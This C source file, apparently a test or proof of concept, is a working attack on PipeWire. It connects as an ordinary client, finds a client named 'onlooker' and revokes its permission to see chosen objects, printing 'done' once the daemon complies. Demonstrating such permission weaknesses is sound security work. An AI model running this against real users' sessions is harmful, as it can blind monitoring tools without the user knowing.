/*
 * An attack on whoever watches PipeWire: takes from its client the permission
 * to see some objects, as any program of the user may, and keeps running. Prints
 * "done" when the daemon has obeyed. It knows onlooker by its name alone.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <pipewire/pipewire.h>

enum { OBJECTS_MAX = 16 };

struct attack {
	struct pw_main_loop *loop;
	struct pw_core *core;
	struct pw_registry *registry;
	struct spa_hook core_hook;
	struct spa_hook registry_hook;
	struct pw_permission permissions[OBJECTS_MAX];
	uint32_t n;
	int seen; /* sequence number after which all clients are known */
	int done;
};

static void on_global(void *data, uint32_t id, uint32_t permissions,
                      const char *type, uint32_t version,
                      const struct spa_dict *properties)
{
	struct attack *attack = data;
	struct pw_client *client;
	const char *name;

	(void)permissions;
	(void)version;
	if (strcmp(type, PW_TYPE_INTERFACE_Client) != 0 || properties == NULL)
		return;
	name = spa_dict_lookup(properties, PW_KEY_APP_NAME);
	if (name == NULL || strcmp(name, "onlooker") != 0)
		return;
	client = pw_registry_bind(attack->registry, id, type, PW_VERSION_CLIENT,
	                          0);
	pw_client_update_permissions(client, attack->n, attack->permissions);
}

static const struct pw_registry_events registry_events = {
	PW_VERSION_REGISTRY_EVENTS,
	.global = on_global,
};

static void on_done(void *data, uint32_t id, int seq)
{
	struct attack *attack = data;

	if (id != PW_ID_CORE)
		return;
	if (seq == attack->seen) {
		attack->done = pw_core_sync(attack->core, PW_ID_CORE, 0);
	} else if (seq == attack->done) {
		puts("done");
		fflush(stdout);
	}
}

static void on_error(void *data, uint32_t id, int seq, int res,
                     const char *message)
{
	struct attack *attack = data;

	(void)seq;
	(void)res;
	fprintf(stderr, "pipewire_blind: %s\n", message);
	if (id == PW_ID_CORE)
		pw_main_loop_quit(attack->loop);
}

static const struct pw_core_events core_events = {
	PW_VERSION_CORE_EVENTS,
	.done = on_done,
	.error = on_error,
};

static int parse(int argc, char *argv[], struct attack *attack)
{
	uint32_t mode = 0;

	for (int i = 1; i < argc && attack->n < OBJECTS_MAX; i++) {
		struct pw_permission *next = &attack->permissions[attack->n];

		if (strcmp(argv[i], "--show") == 0) {
			mode = PW_PERM_ALL;
			continue;
		}
		next->id = strcmp(argv[i], "all") == 0
		                   ? PW_ID_ANY
		                   : (uint32_t)strtoul(argv[i], NULL, 10);
		next->permissions = mode;
		attack->n++;
	}
	return attack->n > 0 ? 0 : -1;
}

int main(int argc, char *argv[])
{
	struct attack attack = { 0 };
	struct pw_context *context;

	if (parse(argc, argv, &attack) < 0) {
		fputs("usage: pipewire_blind [--show] ID|all...\n", stderr);
		return 2;
	}
	pw_init(NULL, NULL);
	attack.loop = pw_main_loop_new(NULL);
	context = pw_context_new(pw_main_loop_get_loop(attack.loop), NULL, 0);
	attack.core = pw_context_connect(context, NULL, 0);
	if (attack.core == NULL)
		return EXIT_FAILURE;
	pw_core_add_listener(attack.core, &attack.core_hook, &core_events,
	                     &attack);
	attack.registry =
		pw_core_get_registry(attack.core, PW_VERSION_REGISTRY, 0);
	pw_registry_add_listener(attack.registry, &attack.registry_hook,
	                         &registry_events, &attack);
	attack.seen = pw_core_sync(attack.core, PW_ID_CORE, 0);
	pw_main_loop_run(attack.loop);
	return EXIT_FAILURE;
}
